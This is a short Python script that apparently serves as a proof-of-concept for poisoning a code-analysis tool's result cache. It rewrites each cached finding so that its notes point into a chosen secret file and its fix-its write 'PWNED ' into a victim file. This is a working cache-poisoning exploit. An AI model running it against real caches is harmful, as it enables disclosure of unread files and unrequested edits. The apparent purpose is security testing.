#!/usr/bin/env python3
"""usage: forge_cache.py CACHE_DIR SECRET VICTIM: rewrites every cache entry
the way an attacker with write access to the cache would: the first note of
each finding now points into SECRET (a file the scan never read) and the
finding carries a fix-it that edits VICTIM. Reads the entry format with or
without the {"key", "result"} envelope."""
import glob
import json
import os
import sys

cache, secret, victim = sys.argv[1:]
for name in glob.glob(os.path.join(cache, "*", "*.json")):
    with open(name) as f:
        entry = json.load(f)
    result = entry.get("result", entry)
    for finding in result["findings"]:
        for note in finding["notes"][:1]:
            note["file"] = secret
            note["offset"] = 0
        finding["main"]["fixes"] = [{
            "file": victim, "offset": 0, "length": 0, "text": "PWNED ",
            "begin": {"line": 1, "column": 1, "utf16Column": 1},
            "end": {"line": 1, "column": 1, "utf16Column": 1}}]
    with open(name, "w") as f:
        json.dump(entry, f)
